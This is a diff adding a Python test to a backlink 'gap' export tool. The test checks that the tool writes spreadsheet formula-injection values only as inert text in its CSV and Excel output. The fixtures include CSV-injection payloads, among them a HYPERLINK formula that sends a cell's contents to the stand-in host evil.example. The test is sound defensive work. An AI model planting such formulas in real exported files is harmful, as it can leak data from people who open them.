@@ -115,3 +115,26 @@ def test_site_of_filename(name: str, site: str) -> None:
 ])
 def test_the_projects_own_sample_names_say_their_site(name: str, site: str) -> None:
     assert site_of_filename(name) == site
+
+
+def test_gap_output_evaluates_nothing_and_has_no_follow_up_columns(tmp_path: Path) -> None:
+    export = tmp_path / "rival.com.csv"
+    export.write_text('Referring page URL,Referring page title,Target URL\n'
+                      '@blog2.example.com/a-post-here,=1+2,"=HYPERLINK(""http://evil.example/"",""ok"")"\n'
+                      'https://good.example.org/a-b-c,+Resources,https://rival.com/guide\n', encoding="utf-8")
+    targets = tmp_path / "targets.csv"
+    targets.write_text('URL,Page kind,Topic keywords\n"=HYPERLINK(""http://evil.example/""&A2,""ok"")",guide,x\n',
+                       encoding="utf-8")
+    out_csv, out_xlsx = tmp_path / "gap.csv", tmp_path / "gap.xlsx"
+    for out in (out_csv, out_xlsx):
+        assert main(["gap", str(export), "--targets", str(targets), "--out", str(out), "--quiet"]) == 0
+    with out_csv.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert "Next action" not in rows[0] and "Touches" not in rows[0]
+    cells = [c for r in rows[1:] for c in r]
+    assert any("HYPERLINK" in c for c in cells)  # the text is kept...
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)  # ...as text a spreadsheet will not evaluate
+    wb = openpyxl.load_workbook(out_xlsx)
+    values = [c for r in wb["Prospects"].iter_rows(min_row=2) for c in r if c.value is not None]
+    assert any("HYPERLINK" in str(c.value) for c in values)
+    assert all(c.data_type != "f" for c in values)
